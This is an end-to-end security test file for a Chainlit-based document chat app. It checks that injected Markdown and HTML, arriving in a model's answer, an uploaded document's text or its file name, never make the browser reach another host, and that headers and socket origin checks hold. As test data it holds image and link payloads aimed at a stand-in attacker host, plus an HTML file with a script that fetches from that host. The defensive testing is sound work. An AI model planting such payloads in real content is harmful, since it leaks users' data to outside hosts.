"""Issue 13 against a real `chainlit run`: injected Markdown in an answer, a document, its
passages and its file name never makes the browser contact another host; pages and
served files carry the security headers; only the app's own origin opens a socket.

One app (with a local OpenAI stand-in whose answer is the injection corpus) serves the
module.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from playwright.sync_api import Page, Request, Response, Route, expect
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Origin

from tests.e2e.conftest import launch_app, sign_in, stop_apps
from tests.e2e.test_chat_ui import answers, open_last_step
from tests.e2e.test_upload_ui import send
from tests.injections import injection_corpus
from tests.openai_standin import OpenAIStandIn

pytestmark = pytest.mark.e2e

ATTACKER = "attacker.invalid"
INJECTION = injection_corpus(ATTACKER)
DOCUMENT_NAME = f"![s](https:{ATTACKER}?x) [n](https:{ATTACKER}) <img src=https:{ATTACKER}>.md"
# Chainlit's index.html links these two stylesheets; the page's CSP blocks them.
CHAINLIT_STYLESHEET_HOSTS = {"fonts.googleapis.com", "cdn.jsdelivr.net"}
# Elements that load or link a URL (the app's own avatar images are fine).
FETCHING = "img, iframe, frame, video, audio, source, object, embed, link, a[href], image"


@pytest.fixture(scope="module")
def app_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    model = OpenAIStandIn(answer=f"From the notes [1]:\n\n{INJECTION} [1]", word_delay=0.002)
    model.start()
    processes: list[subprocess.Popen[str]] = []
    try:
        yield launch_app(
            tmp_path_factory.mktemp("safety"),
            processes,
            OPENAI_BASE_URL=model.base_url,
            LLM_MODEL="standin",
        )
    finally:
        stop_apps(processes)
        model.stop()


def test_pages_carry_security_headers_and_only_the_own_origin_opens_a_socket(
    app_url: str,
) -> None:
    host = urlsplit(app_url).netloc
    page = httpx.get(app_url + "/")
    csp = page.headers["content-security-policy"]
    for directive in ("img-src 'self' data:", "frame-ancestors 'none'", "object-src 'none'"):
        assert directive in csp
    assert f"connect-src 'self' ws://{host} wss://{host}" in csp
    assert "'sha256-" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["x-frame-options"] == "DENY"

    polling = f"{app_url}/ws/socket.io/?EIO=4&transport=polling"
    refused = httpx.get(polling, headers={"Origin": f"http://{ATTACKER}"})
    assert refused.status_code == 400 and "not an accepted origin" in refused.text
    opened = httpx.get(polling, headers={"Origin": app_url})
    assert opened.status_code == 200 and opened.text.startswith('0{"sid"')

    websocket = f"ws://{host}/ws/socket.io/?EIO=4&transport=websocket"
    with pytest.raises(InvalidStatus):
        connect(websocket, origin=Origin(f"http://{ATTACKER}"), open_timeout=10)
    with connect(websocket, origin=Origin(app_url), open_timeout=10) as socket:
        assert str(socket.recv(timeout=10)).startswith('0{"sid"')


def test_injected_markdown_never_makes_the_browser_leave_the_app(
    app_url: str, page: Page, tmp_path: Path
) -> None:
    app_host = urlsplit(app_url).netloc
    left_the_app: list[str] = []
    blocked_by_csp: set[str] = set()
    uploads: list[Response] = []

    def only_the_app(route: Route) -> None:
        if urlsplit(route.request.url).netloc == app_host:
            route.continue_()
        else:
            left_the_app.append(route.request.url)
            route.abort()

    def on_failed(request: Request) -> None:
        if request.failure == "csp":
            blocked_by_csp.add(urlsplit(request.url).netloc)

    def on_response(response: Response) -> None:
        if response.request.method == "POST" and "/project/file?" in response.url:
            uploads.append(response)

    page.route("**/*", only_the_app)
    page.on("requestfailed", on_failed)
    page.on("response", on_response)

    # A document whose text and name are the injection corpus, and an HTML file.
    document = tmp_path / DOCUMENT_NAME
    document.write_text(f"The zanzibar protocol, annotated.\n\n{INJECTION}\n", encoding="utf-8")
    html = tmp_path / "page.html"
    html.write_text(
        f"<html><body><p>An unrelated page.</p><script>fetch('//{ATTACKER}/s')</script>"
    )
    page.goto(sign_in(page, app_url))
    expect(page.get_by_text("Answers are written by")).to_be_visible()
    send(page, "What does the zanzibar protocol say?", [document, html])

    # The answer (the corpus, streamed) shows its forms as text; its citation still works.
    answer = answers(page).last
    expect(answer).to_contain_text("[image removed: a[b]c]")
    expect(answer).to_contain_text("ph[i]sh")
    expect(answer).to_contain_text(f"<img src=//{ATTACKER}/x>")
    assert DOCUMENT_NAME in open_last_step(page)  # the search step names it literally
    answer.locator(".element-link", has_text="[1]").first.click()
    side = page.locator("#side-view-content")
    expect(side).to_contain_text(ATTACKER)  # the passage, as plain text
    for region in (answer, side, page.locator(".step").last):
        urls = region.locator(FETCHING).evaluate_all(
            "nodes => nodes.map(n => n.src || n.href || n.data || '')"
        )
        assert [u for u in urls if urlsplit(u).netloc != app_host] == []

    # Ingested uploads are deleted from the server (their text is in the knowledge base).
    assert len(uploads) == 2
    session_id = parse_qs(urlsplit(uploads[0].url).query)["session_id"][0]
    for upload in uploads:
        gone = page.request.get(
            f"{app_url}/project/file/{upload.json()['id']}?session_id={session_id}"
        )
        assert gone.status == 404

    # The file name, in `/docs` and in the welcome of the uploader's next chat, is literal.
    send(page, "/docs")
    expect(answers(page).last).to_contain_text(DOCUMENT_NAME)
    page.goto(app_url)
    expect(page.get_by_text("The knowledge base holds")).to_contain_text(DOCUMENT_NAME)

    # An upload waiting to be sent is served as an inert download.
    with page.expect_response(lambda r: r.request.method == "POST" and "/project/file?" in r.url):
        page.set_input_files("#upload-button-input", [str(html)])
    waiting = uploads[-1]
    session_id = parse_qs(urlsplit(waiting.url).query)["session_id"][0]
    served = page.request.get(
        f"{app_url}/project/file/{waiting.json()['id']}?session_id={session_id}"
    )
    assert served.headers["content-disposition"] == "attachment"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-type"] == "application/octet-stream"  # not text/html

    assert left_the_app == []
    assert blocked_by_csp <= CHAINLIT_STYLESHEET_HOSTS  # nothing injected even tried
